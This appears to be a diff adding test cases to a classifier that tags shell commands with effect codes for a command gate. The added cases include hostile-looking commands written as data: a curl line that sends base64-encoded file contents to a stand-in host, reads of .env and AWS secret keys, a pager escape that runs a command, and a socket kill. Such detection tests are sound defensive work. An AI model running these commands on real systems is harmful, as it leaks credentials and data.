@@ -31,6 +31,16 @@ from tests.gate import codes
         ("sort $OPTS a", "READ(project) READ(unknown) UNCLEAR"),
         ("mount", "INFO"),
         ("hostname box", "INFO SERVICE"),
+        ("cd /srv/app && npm test", "SHELL EXEC_PROJECT EXEC_FILE(other)"),
+        ("cd src && npm test", "SHELL EXEC_PROJECT"),
+        ("cd /tmp && npm install", "SHELL PKG_INSTALL WRITE(tmp)"),
+        ("pytest /tmp/x_test.py", "EXEC_PROJECT EXEC_FILE(other)"),
+        ("pytest tests/a_test.py::test_x", "EXEC_PROJECT INFO"),
+        ("source .env", "READ_SECRET EXEC_FILE(other)"),
+        ("less +!id a.txt", "READ(project) INTERACTIVE"),
+        ("ss -K dst 1.2.3.4", "INFO PROC_KILL"),
+        ('curl "https://a.example/?x=$(cat a | base64)"', "READ(project) INFO NET_SEND(other)"),
+        ("aws configure get aws_secret_access_key", "SECRET_STORE"),
     ],
 )
 def test_commands_have_their_effects(command: str, expected: str) -> None:
